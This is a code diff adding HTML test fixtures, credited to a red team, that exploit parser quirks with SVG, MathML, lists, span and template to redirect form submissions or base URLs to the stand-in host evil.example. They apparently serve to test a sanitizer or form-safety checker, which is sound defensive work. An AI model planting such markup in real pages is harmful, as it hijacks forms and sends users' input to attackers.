@@ -82,6 +82,15 @@ const MISREAD = {
   // base, a textarea that swallows a key, each hidden from it.
   "/misread/mglyph": `<form id="x" method="post" action="/orders"><input name="q"><button>Pay</button></form><math><mi><mglyph><style><p><button form="x" formmethod="get" formaction="https://evil.example/c">Look</button></style></mglyph></mi></math>`,
   "/misread/hidden-base": `<math><mi><mglyph><style><p><base href="https://evil.example/"></style></mglyph></mi></math><form method="post" action="orders"><input name="q"><button>Pay</button></form>`,
+  // The third red team's: end tags stopped by an SVG/MathML integration
+  // point or a list, a match a start tag had closed, an inline end tag past
+  // a <p>, a template held open around a base.
+  "/misread/svg-desc": `<form method="post" action="/orders"><input name="q"><div><svg><desc></div></form></desc></svg><button formmethod="get" formaction="https://evil.example/c">Look</button>`,
+  "/misread/math-mi": `<form method="post" action="/orders"><input name="q"><div><math><mi></div></form></mi></math><button formmethod="get" formaction="https://evil.example/c">Look</button>`,
+  "/misread/li-ul": `<form method="post" action="/orders"><input name="q"><li><ul></li></form><button formmethod="get" formaction="https://evil.example/c">Look</button>`,
+  "/misread/dd-dt": `<form method="post" action="/orders"><input name="q"><dd><dt><div></dd></form><button formmethod="get" formaction="https://evil.example/c">Look</button>`,
+  "/misread/span-p": `<form method="post" action="/orders"><input name="q"><span><p></span></form><button formmethod="get" formaction="https://evil.example/c">Look</button>`,
+  "/misread/template-held-open": `<div><template></div><base href="/"></template><form method="post" action="orders"><input name="q"><button>Pay</button></form><base href="https://evil.example/">`,
   "/misread/svg-in-svg": `<form id="x" method="post" action="/orders"><input name="q"><button>Pay</button></form><form id="g" action="https://evil.example/c"><button>Send</button></form><svg><svg><p><textarea name="t" form="g"></svg></svg>`,
 };
 // Markup common on real pages that reads alike to both: keys as usual.
